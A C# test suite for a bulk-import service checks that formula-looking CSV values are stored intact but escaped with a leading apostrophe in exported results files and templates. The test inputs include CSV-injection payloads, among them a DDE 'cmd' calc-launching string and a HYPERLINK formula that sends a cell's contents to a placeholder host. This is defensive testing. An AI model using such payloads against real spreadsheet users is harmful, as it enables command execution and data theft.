using System.Net.Http.Json;
using System.Text.Json;
using BulkImport.Core.Imports;
using BulkImport.Core.Security;
using BulkImport.Tests.Support;
using Microsoft.EntityFrameworkCore;

namespace BulkImport.Tests.Security;

/// <summary>
/// Formula-looking values (BAD-INPUTS 36) are data: imported and stored exactly as typed, and escaped with a leading '
/// in every file the product writes, so a spreadsheet shows them as text instead of running them.
/// </summary>
public sealed class ExportEscapingTests : IAsyncLifetime
{
    private static readonly char[] FormulaStarts = ['=', '+', '-', '@', '\t', '\r'];
    private readonly TestApp _app = new();
    private ApiClient _api = null!;

    public async Task InitializeAsync() => _api = await _app.ApiAsync(Roles.Importer);

    public async Task DisposeAsync() => await _app.DisposeAsync();

    [Fact]
    public async Task Formula_values_are_stored_intact_and_the_results_file_has_no_cell_a_spreadsheet_would_run()
    {
        var import = await _api.ImportAsync(
            "First Name,Last Name,Address,City\n" +
            "\"=HYPERLINK(\"\"http://x?\"\"&A1,\"\"x\"\")\",@SUM(A1),-2+3,+1\n",
            operation: "Add");
        import.ValidRows.Should().Be(1, string.Join("; ", (await _api.RowsAsync(import.Id)).Items.SelectMany(r => r.Messages).Select(m => m.Message)));

        var committed = await _api.CommitAndWaitAsync(import.Id);
        committed.Inserted.Should().Be(1);

        var row = await _api.RowAsync(import.Id, 2);
        var client = (await _api.ClientAsync((int)row.RecordId!)).GetProperty("values");
        client.GetProperty("First Name").GetString().Should().Be("=HYPERLINK(\"http://x?\"&A1,\"x\")");
        client.GetProperty("Last Name").GetString().Should().Be("@SUM(A1)");
        client.GetProperty("Address").GetString().Should().Be("-2+3");
        client.GetProperty("City").GetString().Should().Be("+1");
        await using (var db = _app.CreateDbContext())
        {
            (await db.Clients.SingleAsync(c => c.ClientId == (int)row.RecordId!)).FirstName.Should().Be("=HYPERLINK(\"http://x?\"&A1,\"x\")");
        }

        var cells = Rfc4180.Parse((await _api.ResultsAsync(import.Id)).TrimStart('\uFEFF'));
        cells.SelectMany(c => c).Should().NotContain(c => c.Length > 0 && FormulaStarts.Contains(c[0]));
    }

    [Fact]
    public async Task Formula_values_committed_to_a_client_come_back_escaped_in_the_pre_filled_template()
    {
        var import = await _api.ImportAsync("Client ID,First Name,City,Address\n2,=1+2,@SUM(A1),\"=1+2\"\";=1+2\"\n", operation: "Update");
        import.ValidRows.Should().Be(1);
        (await _api.CommitAndWaitAsync(import.Id)).Updated.Should().Be(1);
        await using (var db = _app.CreateDbContext())
        {
            var stored = await db.Clients.SingleAsync(c => c.ClientId == 2);
            (stored.FirstName, stored.City, stored.Address).Should().Be(("=1+2", "@SUM(A1)", "=1+2\";=1+2"));
        }

        var response = await _api.Http.GetAsync("/api/templates/Client.csv?courseCode=CNA-101");
        response.EnsureSuccessStatusCode();
        var raw = (await response.Content.ReadAsStringAsync()).TrimStart('\uFEFF');
        var template = Rfc4180.Parse(raw);
        var header = template[0].ToList();
        var client = template.Single(r => r[0] == "2");

        client[header.IndexOf("First Name")].Should().Be("'=1+2");
        client[header.IndexOf("City")].Should().Be("'@SUM(A1)");
        client[header.IndexOf("Address")].Should().Be("'=1+2\";=1+2");
        raw.Should().Contain("\"'=1+2\"\";=1+2\"");
        template.SelectMany(c => c).Should().NotContain(c => c.Length > 0 && FormulaStarts.Contains(c[0]));
    }

    [Fact]
    public async Task Results_file_cells_that_start_like_a_formula_are_written_with_a_leading_quote()
    {
        var id = await StagedImports.AddAsync(_app.Services, TestApp.DemoUser(Roles.Importer).Email, ImportStatus.Committed);
        string[] messages = ["=cmd|' /C calc'!A0", "+1 and more", "-2+3", "@SUM(A1)", "\t=1", "\r=1"];
        await using (var db = _app.CreateDbContext())
        {
            var row = await db.ImportRows.SingleAsync(r => r.ImportId == id && r.RowNumber == 4);
            row.Messages = [.. messages.Select(m => new RowMessage(null, m, "test"))];
            await db.SaveChangesAsync();
        }

        var results = Rfc4180.Parse((await _api.ResultsAsync(id)).TrimStart('\uFEFF'));

        var errorRow = results.Single(r => r[0] == "4");
        errorRow[4].Should().Be("'" + string.Join("; ", messages));
        results.SelectMany(c => c).Should().NotContain(c => c.Length > 0 && FormulaStarts.Contains(c[0]));
    }

    [Fact]
    public async Task The_client_api_returns_formula_values_as_stored_for_programs()
    {
        var support = await _app.ApiAsync(Roles.Support);
        await using (var db = _app.CreateDbContext())
        {
            var client = await db.Clients.SingleAsync(c => c.ClientId == 2);
            client.City = "=1+2";
            await db.SaveChangesAsync();
        }

        var values = (await support.Http.GetFromJsonAsync<JsonElement>("/api/clients/2")).GetProperty("values");

        values.GetProperty("City").GetString().Should().Be("=1+2", "JSON is not a spreadsheet: only CSV files are escaped");
    }
}
